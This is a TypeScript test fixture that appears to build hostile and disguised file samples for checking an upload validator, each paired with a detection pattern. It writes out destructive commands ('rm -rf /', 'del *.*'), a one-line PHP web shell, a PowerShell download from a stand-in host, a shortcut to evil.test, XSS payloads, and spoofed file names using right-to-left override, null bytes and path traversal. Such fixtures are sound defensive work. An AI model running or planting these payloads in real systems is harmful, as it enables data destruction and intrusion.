import { makeDoc, makeDocx, makePdf } from '../documents.factory.ts'
import {
  type HostileFile,
  type Mark,
  eicar,
  eicarMark,
  exe,
  inFormat,
  script,
  typeOfEnding,
} from './hostile-file.factory.ts'

export function hostileTexts(): HostileFile[] {
  const all: [what: string, text: string | Buffer, mark?: Mark][] = [
    ['html', '<!doctype html><html><body>x', /<(!doctype|html)[\s>]/i],
    ['html after blanks', `\n\n  <HTML>${script}`, /<(html|script)>/i],
    ['html further on', `Dear Sir,\n${script}`, /<script>/],
    ['svg', `<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`, /<script>/],
    ['xml', '<?xml version="1.0"?><a/>', /^\s*<\?xml/],
    ['a script', '#!/bin/sh\nrm -rf /\n', /^\s*#!\/bin\/sh/],
    ['php', 'hello <?php system($_GET[0]); ?>', /<\?php\s/],
    ['a batch file', '@echo off\r\ndel *.*', /^\s*@echo\s/],
    ['a shortcut', '[InternetShortcut]\nURL=file://evil.test/a.exe', /^\s*\[InternetShortcut\]/],
    ['rtf', String.raw`{\rtf1\ansi {\object\objdata 0105}}`, /^\s*\{\\rtf/],
    ['an element that acts', 'Dear Sir,\n<svg onload=alert(1)>', /<svg onload=/],
    ['another of them', 'Dear Sir,\n<img/src="x"/onerror=alert(1)>', /<img\/src="x"\/onerror=/],
    [
      'settings of Windows',
      'Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Run]',
      /^\s*Windows Registry Editor/,
    ],
    ['a script of PowerShell', '<#\nhelp\n#>\nGet-Item x', /^\s*<#/],
    [
      'what a script downloads',
      'Hello\r\n$a = (New-Object Net.WebClient).DownloadString("http://x.test")',
      /\bNew-Object Net\.WebClient\b/,
    ],
    ['a line that runs one', 'Please type: powershell -enc SQBFAFgA', /\bpowershell -enc\b/],
    ['a script of Windows', 'Set x = CreateObject("WScript.Shell")', /\bWScript\.Shell\b/],
    ['the test virus', eicar, eicarMark],
    ['zeros', Buffer.from('a\0b'), /\0/],
    ['an escape sequence of a terminal', '\u001b]0;x\u0007', '\u001b'],
    ['two bytes a sign', Buffer.from('\ufeffhello', 'utf16le'), /\0/],
    ['no UTF-8', Buffer.from([0x68, 0xe9, 0x20]), /\u00e9[^\u0080-\u00bf]/],
    ['a program', exe, /\0/],
    ['nothing', '', /^$/],
  ]
  return inFormat(
    'txt',
    all.map(([what, text, ...mark]) => [what, Buffer.from(text as string), ...mark]),
  )
}

/** Documents under names or types that are not theirs. */
export async function disguisedDocuments(jpeg: Buffer): Promise<HostileFile[]> {
  const [pdf, docx, doc, text] = [makePdf(), await makeDocx(), makeDoc(), Buffer.from('hello')]
  const { pdf: pdfType, doc: docType, docx: docxType, txt } = typeOfEnding
  const all: [what: string, name: string, bytes: Buffer, type: string][] = [
    ['pdf named exe', 'a.pdf.exe', pdf, pdfType],
    ['pdf with a program in its name', 'invoice.exe.pdf', pdf, pdfType],
    ['pdf with a name written backwards', 'invoice\u202efdp.exe', pdf, pdfType],
    ['pdf with a zero in its name', 'a.pdf\0.html', pdf, pdfType],
    ['pdf declared as html', 'a.pdf', pdf, 'text/html'],
    ['pdf declared as nothing', 'a.pdf', pdf, 'application/octet-stream'],
    ['pdf declared as a photo', 'a.jpg', pdf, typeOfEnding.jpg],
    ['pdf named doc', 'a.doc', pdf, pdfType],
    ['photo declared as pdf', 'a.pdf', jpeg, pdfType],
    ['photo as text', 'a.txt', jpeg, txt],
    ['docx as doc', 'a.doc', docx, docType],
    ['docx named docm', 'a.docm', docx, docxType],
    ['doc as docx', 'a.docx', doc, docxType],
    ['doc as text', 'a.txt', doc, txt],
    ['text as pdf', 'a.pdf', text, pdfType],
    ['text named html', 'a.html', text, txt],
    ['text named bat', 'a.txt.bat', text, txt],
    ['text as csv', 'a.csv', text, 'text/csv'],
    ['rtf as doc', 'a.doc', Buffer.from(String.raw`{\rtf1 x}`), docType],
    ['html with a path', '../../../../var/www/a.html', Buffer.from(script), 'text/html'],
  ]
  return all.map(([what, name, bytes, type]) => ({ what, name, bytes, type }))
}
